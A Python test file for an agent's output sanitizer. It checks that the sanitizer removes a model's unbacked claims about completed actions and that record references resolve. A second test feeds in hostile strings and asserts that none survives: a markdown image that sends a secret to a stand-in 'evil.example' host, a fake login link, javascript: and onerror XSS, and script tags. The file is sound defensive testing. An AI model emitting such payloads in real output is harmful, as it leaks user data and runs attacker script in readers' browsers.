"""What of a model's text is shown."""

from __future__ import annotations

import pytest

from agent.llm.prose import shown
from agent.phrases import Markdown

SENTENCES = {"r1": Markdown("**Weekly report**: Failed, today at 09:00")}


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("A reminder posts here. An e-mail goes to people.", "A reminder posts here. An e-mail goes to people."),
        ("Your report was sent to everybody. It needs an account.", "It needs an account."),
        ("I sent the mail. It succeeded!", ""),
        ("Everything completed successfully.\nIt needs a password.", "It needs a password."),
        ("Der Bericht wurde verschickt. Er braucht ein Konto.", "Er braucht ein Konto."),
        ("La automatización falló. Necesita una cuenta.", "Necesita una cuenta."),
        ("报告已发送。它需要一个账户。", "它需要一个账户。"),
        ("The last one: [[r1]]", "The last one: **Weekly report**: Failed, today at 09:00"),
        ("Nobody knows [[r9]].", "Nobody knows ."),
    ],
)
def test_claims_about_what_happened_are_left_to_the_records(written: str, kept: str) -> None:
    assert shown(written, SENTENCES, is_whole=True) == kept


@pytest.mark.parametrize(
    "evil",
    [
        "![x](https://evil.example/?q=secret)",
        "[press here](https://evil.example/login)",
        "[press here](javascript:alert(1))",
        "https://evil.example/?q=secret",
        "<img src=x onerror=alert(1)>",
        "<a href='https://evil.example'>x</a>",
        "[x]: https://evil.example",
        "# BIG NEWS",
        "<script>alert(1)</script>",
        "files/secret.txt",
    ],
)
def test_nothing_leads_anywhere_and_nothing_is_loaded(evil: str) -> None:
    for written in (evil, f"See this: {evil} now.", evil[: len(evil) // 2], evil[:-1]):
        for is_whole in (True, False):
            text = shown(written, {}, is_whole=is_whole)
            for bad in ("evil.example/", "](", "<img", "<a ", "<script", "onerror", "files/s"):
                assert bad not in text
            assert not text.startswith("#")


def test_an_unfinished_mark_is_held_back() -> None:
    text = "It is [[r1]] now."
    for length in range(len(text)):
        assert "[" not in shown(text[:length], SENTENCES, is_whole=False)
